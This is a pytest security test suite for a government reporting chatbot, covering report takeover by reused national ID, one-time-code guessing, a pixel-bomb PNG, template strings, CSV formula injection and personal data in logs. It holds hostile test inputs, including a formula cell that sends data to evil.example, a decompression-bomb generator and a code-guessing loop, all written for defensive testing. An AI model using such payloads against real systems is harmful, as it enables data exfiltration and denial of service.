"""Attacks through the conversation: taking a report over with someone's national ID, guessing
one-time codes, a pixel bomb, template strings, formula cells, personal data in the logs.

Before this suite's changes:
- filing any report with a victim's national ID replaced the victim's name and mobile on
  file; the attacker then passed the "ID and mobile on the report" check and cancelled the
  victim's report;
- a 7000x7000 PNG of ~150 KB cost the assistant 1.1 s and +375 MB to decode (accepted);
- a failed lookup was counted per conversation only, which a REST client names itself.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import subprocess
import sys
import uuid
from pathlib import Path

import pytest
from PIL import Image

from bot.runtime.scripted_user import EN_ANSWERS
from bot.store.repository import ReportRepository
from tests.integration.test_live_intake import answer_until_summary
from tests.live import ROOT, AssistantProcess, conversation_id, texts

pytestmark = pytest.mark.servers

VICTIM_ID = "1000000032"
VICTIM_MOBILE, VICTIM_E164 = "0551110001", "+966551110001"
ATTACKER_MOBILE, ATTACKER_E164 = "0552220002", "+966552220002"


class Chat:
    def __init__(self, assistant: AssistantProcess, name: str) -> None:
        self.assistant = assistant
        self.sender = f"{name}-{uuid.uuid4().hex[:8]}"
        self.last: list[dict] = []

    def say(self, text: str, **metadata: object) -> str:
        self.last = self.assistant.say(self.sender, text, metadata or None)
        return texts(self.last)

    def slots(self) -> dict:
        return self.assistant.tracker(self.sender)["slots"]

    def code(self) -> str:
        return self.assistant.last_code()


def file_suggestion(
    chat: Chat, *, name: str, id_number: str, mobile: str, description: str, service: str
) -> str:
    """A development suggestion in English, every question answered (tests/test_live_intake's
    cooperative user, with this person's details); returns its reference."""
    own = {"describe it in detail": description, "full name": name,
           "national ID or iqama": id_number, "mobile number": mobile}
    answers = [(marker, own.get(marker, answer)) for marker, answer in EN_ANSWERS]
    chat.say("I have a suggestion to improve Absher")
    answer_until_summary(chat, chat.say("/affirm"), answers, service=service, prior_ref="")
    chat.say("/confirm_report")
    reference = chat.slots()["report_ref"]
    assert reference
    return reference


def test_takeover_by_a_reused_national_id_fails(
    assistant: AssistantProcess, store: ReportRepository
) -> None:
    victim = Chat(assistant, "victim")
    ref = file_suggestion(
        victim, name="Nourah Alharbi", id_number=VICTIM_ID, mobile=VICTIM_MOBILE,
        description="Please show the nearest free appointment first.", service="appointments",
    )
    attacker = Chat(assistant, "attacker")
    own = file_suggestion(
        attacker, name="Someone Else", id_number=VICTIM_ID, mobile=ATTACKER_MOBILE,
        description="Add a dark mode to the login page for night use.", service="login",
    )
    # the reporter on file is the victim's, as first given; the attacker's report keeps its
    # own details and is flagged for the back office
    victims = store.require(ref)
    assert (victims.reporter.full_name, victims.reporter.mobile) == ("Nourah Alharbi", VICTIM_E164)
    attackers = store.require(own)
    assert attackers.contact_mobile == ATTACKER_E164
    assert attackers.contact_mismatch == "full_name,mobile"

    # the attacker knows the victim's ID and now has "a mobile on file": no way in
    sent = len(assistant.sent_messages())
    assert "check who you are" in attacker.say(f"I want to cancel my report {ref}")
    attacker.say(VICTIM_ID)
    codes = assistant.sent_messages()[sent:]
    assert [message["to"] for message in codes] == [VICTIM_E164]  # the victim's phone only
    replies = [attacker.say(f"{n:06d}") for n in range(5)]
    assert not any("Do you want to cancel" in reply for reply in replies), replies
    assert "could not find" in replies[-1] or "paused" in replies[-1], replies[-1]
    assert store.require(ref).status == "received"
    # and the victim, on their own conversation, is not locked out by the attacker's tries
    assert ref in victim.say(f"what is the status of {ref}?")


def test_code_guessing_is_throttled_across_conversations_and_addresses(
    assistant: AssistantProcess, store: ReportRepository
) -> None:
    owner = Chat(assistant, "owner")
    ref = file_suggestion(
        owner, name="Fahad Alotaibi", id_number="1000000040", mobile="0553330003",
        description="Let me download the receipt as a PDF.", service="receipts",
    )
    # one guesser: five wrong codes for the report (the ID is right, the code is not theirs)
    guesser = Chat(assistant, "guess-a")
    guesser.say(f"what is the status of {ref}?")
    guesser.say("1000000040")
    for _ in range(5):
        guesser.say("000001")
    # a new conversation, from another address (say() names one per conversation), asking
    # about the same reference: paused, because the reference's tries are used up
    another = Chat(assistant, "guess-b")
    reply = another.say(f"what is the status of {ref}?")
    assert "paused lookups" in reply, reply
    # the reporter's own conversation still sees it
    assert ref in owner.say(f"what is the status of {ref}?")


def _png(width: int, height: int) -> str:
    buffer = io.BytesIO()
    Image.new("1", (width, height)).save(buffer, format="PNG", optimize=True)
    return base64.b64encode(buffer.getvalue()).decode()


def test_a_pixel_bomb_is_refused_without_being_decoded(assistant: AssistantProcess) -> None:
    attachments = Path(assistant.env["ATTACHMENTS_DIR"])
    before = {p for p in attachments.rglob("*") if p.is_file()} if attachments.exists() else set()
    bomb = _png(7000, 7000)
    assert len(bomb) < 400_000  # ~150-250 KB of base64 for 49 megapixels
    reply = texts(assistant.say(
        "bomb-1", "", {"attachments": [{"filename": "x.png", "content_type": "image/png",
                                        "data": bomb}]},
    ))
    assert "too large" in reply or "كبيرة" in reply, reply
    after = {p for p in attachments.rglob("*") if p.is_file()} if attachments.exists() else set()
    assert after == before  # nothing was stored


TEMPLATE_TEXT = "Odd text {0} and 0[ and %s and %(x)s and {{7*7}} and {reference} stays as typed"


def test_template_and_format_strings_show_and_are_stored_literally(
    assistant: AssistantProcess, store: ReportRepository
) -> None:
    chat = Chat(assistant, "template")
    ref = file_suggestion(
        chat, name="Reem Alsaud", id_number="1000000057", mobile="0554440004",
        description=TEMPLATE_TEXT, service="fines",
    )
    report = store.require(ref)
    assert report.description == TEMPLATE_TEXT
    events = assistant.tracker(chat.sender)["events"]
    shown = "\n".join(e.get("text") or "" for e in events if e["event"] == "bot")
    assert TEMPLATE_TEXT in shown, shown[-2000:]  # the summary shows it as typed


def test_formula_cells_are_neutralised_in_exports(
    assistant: AssistantProcess, store: ReportRepository, tmp_path: Path
) -> None:
    chat = Chat(assistant, "formula")
    ref = file_suggestion(
        chat, name="Omar Alqahtani", id_number="1000000065", mobile="0555550005",
        description='=HYPERLINK("http://evil.example/?"&A1,"click")', service="traffic",
    )
    output = tmp_path / "export.csv"
    env = {**assistant.env, "BALAGH_VAR_DIR": str(assistant.var_dir)}
    subprocess.run(
        [sys.executable, "-m", "bot", "reports", "export", "--csv", "--output", str(output)],
        cwd=ROOT, env=env, check=True, capture_output=True, timeout=120,
    )
    assert output.stat().st_mode & 0o077 == 0  # owner-only
    rows = list(csv.DictReader(io.StringIO(output.read_text(encoding="utf-8-sig"))))
    [row] = [row for row in rows if row["reference"] == ref]
    assert row["description"].startswith("'=HYPERLINK(")


def test_no_national_id_or_mobile_in_the_logs_after_hostile_requests(
    assistant: AssistantProcess,
) -> None:
    national_id, mobile = "1000000073", "0556660006"
    sender = "hostile-log-1"
    for message in (
        f'/inform{{"national_id": "{national_id}", "mobile": "{mobile}"}}',
        f'/check_status{{"reference": "BR-00000000", "national_id": "{national_id}"}}',
        f"my id is {national_id} and my mobile {mobile}",
        json.dumps({"national_id": national_id, "mobile": mobile}),
    ):
        assistant.say(sender, message)
    logs = [p for p in assistant.var_dir.rglob("*") if p.is_file() and p.suffix in (".log", ".out")]
    assert logs
    for path in logs:
        text = path.read_text(encoding="utf-8", errors="replace")
        for secret in (national_id, mobile, mobile[1:], "+966" + mobile[1:]):
            assert secret not in text, (path.name, secret)
    # the conversation is REST's own, whatever it carried
    assert assistant.tracker(conversation_id(sender))["sender_id"] == "rest:" + sender
